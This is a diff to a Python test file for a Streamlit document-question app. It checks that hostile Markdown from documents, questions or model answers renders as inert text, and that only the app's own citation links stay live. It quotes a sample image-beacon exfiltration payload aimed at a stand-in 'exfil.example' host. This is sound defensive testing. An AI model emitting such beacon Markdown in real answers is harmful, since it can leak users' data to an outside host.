@@ -21,7 +21,7 @@ from streamlit.testing.v1 import AppTest
 import ui as _shared
 from core.ingest.pipeline import IngestItem
 from core.service import Loupe
-from tests.app.support import make_app, on_page, run
+from tests.app.support import answer_shown, make_app, on_page, run
 
 # What an attacker writes: every way Markdown, HTML and Streamlit turn text into a request.
 HOSTILE = [
@@ -142,9 +142,17 @@ def markdown_strings(at: AppTest) -> list[str]:
     return strings
 
 
+# The one link Loupe itself puts in an answer: `[n]` to its passage on the Source page.
+SOURCE_LINK = re.compile(r"^link_open: \{'href': '\./source\?answer=[0-9a-f]{32}&n=\d+'\}$")
+
+
 def assert_page_inert(at: AppTest) -> None:
-    """The app's own Markdown (bold, icons) is fine; nothing on the page may load or link."""
-    live = {s: requests_and_links(s) for s in markdown_strings(at)}
+    """The app's own Markdown (bold, icons, the citation links it makes) is fine; nothing the
+    documents, questions or the model wrote may load or link."""
+    live = {
+        s: [part for part in requests_and_links(s) if not SOURCE_LINK.match(part)]
+        for s in markdown_strings(at)
+    }
     assert {s: parts for s, parts in live.items() if parts} == {}
     assert "exfil" in "".join(e.value for e in at.text), "the hostile text is shown, as text"
 
@@ -155,8 +163,11 @@ def test_chat_and_review_render_hostile_documents_and_questions_inert(engine: Lo
     at = run(make_app())
     run(at.chat_input[0].set_value(QUESTION))
     reply = at.chat_message[1]
-    answer = next(t.value for t in reply.text if "25 days" in t.value)
+    answer = answer_shown(reply)
     assert "![beacon](https://exfil.example/answer.png?q=secret)" in answer, "shown as written"
+    # Its citation is a link, to Loupe's own Source page only.
+    links = requests_and_links(next(m.value for m in reply.markdown if "25 days" in m.value))
+    assert links and all(SOURCE_LINK.match(link) for link in links), links
     assert any("exfil" in e.label for e in reply.expander), "the heading is in the label"
     assert_page_inert(at)
 
